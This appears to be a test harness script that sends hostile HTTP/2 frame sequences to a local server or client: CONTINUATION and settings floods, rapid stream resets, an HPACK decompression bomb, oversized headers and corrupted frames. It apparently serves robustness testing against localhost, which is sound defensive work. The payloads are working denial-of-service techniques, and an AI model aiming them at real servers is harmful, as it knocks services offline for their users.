"""hostile_http2.py PORT ATTACK...: what nobody should send over HTTP/2, each on a connection of its own.
hostile_http2.py serve ATTACK: prints a port, and answers one client with it."""
import random
import socket
import sys
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


SETTINGS = frame(4, 0, 0)
GET = b"\x82\x86\x84\x41\x01a"
HELLO = PREFACE + SETTINGS


def rapid():
    return b"".join(frame(1, 5, n, GET) + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 40001, 2))


def bomb():
    """A value of 4 000 bytes into the table, and then named 60 000 times: 240 MB, of 64 KB."""
    field = b"\x40\x01n\x7f" + bytes([0x80 | (4000 - 127) & 127, (4000 - 127) >> 7]) + b"v" * 4000
    block = GET + field + b"\xbe" * 60000
    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    return frame(1, 1, 1, parts[0]) + b"".join(frame(9, 0, 1, part) for part in parts[1:-1]) + frame(9, 4, 1, parts[-1])


def long_head(size):
    block = GET + b"\x00\x01n\x7f\xff\xff\xff\x00" + b"v" * size
    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    return frame(1, 1, 1, parts[0]) + b"".join(frame(9, 0, 1, part) for part in parts[1:])


def noise(seed):
    return random.Random(seed).randbytes(300000)


def broken(seed):
    """Right frames, of which some bytes are not as they should be."""
    dice = random.Random(seed)
    text = bytearray(b"".join(frame(1, 5, n, GET + b"\x40\x02nn\x03vvv") + frame(0, 0, n, b"data") for n in range(1, 400, 2)))
    for _ in range(20):
        text[dice.randrange(len(text))] = dice.randrange(256)
    return bytes(text)


ATTACKS = {
    "continuations": lambda: HELLO + frame(1, 1, 1, GET) + frame(9, 0, 1) * 1000000,
    "settings": lambda: HELLO + frame(4, 0, 0, b"\0\1\0\0\x10\0") * 500000,
    "acks": lambda: HELLO + frame(4, 1, 0) * 500000,
    "tables": lambda: HELLO + frame(1, 5, 1, b"\x3f\xe1\x1f\x20" * 4000 + GET),
    "pings": lambda: HELLO + frame(6, 0, 0, b"12345678") * 200000,
    "windows": lambda: HELLO + frame(8, 0, 0, b"\0\0\0\1") * 200000,
    "priorities": lambda: HELLO + b"".join(frame(2, 0, n, b"\0\0\0\0\x10") for n in range(1, 200001, 2)),
    "rapid": lambda: HELLO + rapid(),
    "streams": lambda: HELLO + b"".join(frame(1, 4, n, GET) for n in range(1, 601, 2)),
    "bomb": lambda: HELLO + bomb(),
    "long": lambda: HELLO + long_head(4000000),
    "empty": lambda: HELLO + frame(1, 4, 1, GET) + frame(0, 0, 1) * 500000,
    "huge": lambda: HELLO + b"\xff\xff\xff\x01\x04\0\0\0\1" + b"x" * 1000000,
    "garbage": lambda: HELLO + noise(1),
    "truncated": lambda: (HELLO + frame(1, 5, 1, GET))[:-2],
    "preface": lambda: PREFACE[:20],
    "broken": lambda: HELLO + broken(1),
    "broken2": lambda: HELLO + broken(2),
    "broken3": lambda: HELLO + broken(3),
}


def attack(port, name):
    with socket.create_connection(("127.0.0.1", port)) as there:
        threading.Thread(target=drain, args=(there,), daemon=True).start()
        try:
            there.sendall(ATTACKS[name]())
            there.shutdown(socket.SHUT_WR)
            there.settimeout(5)
        except OSError:
            pass


def drain(there):
    try:
        while there.recv(65536):
            pass
    except OSError:
        pass


def serve(name):
    """The same frames as an answer: stream 1 is the client's, so its head is taken for one."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        print(listening.getsockname()[1], flush=True)
        there = listening.accept()[0]
        reader = threading.Thread(target=drain, args=(there,))
        reader.start()
        try:
            there.sendall(ATTACKS[name]()[len(PREFACE):].replace(GET, b"\x88", 1))
            there.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        reader.join()
        there.close()


if sys.argv[1] == "serve":
    serve(sys.argv[2])
elif sys.argv[1] == "list":
    print(*ATTACKS)
else:
    for each in sys.argv[2:]:
        attack(int(sys.argv[1]), each)
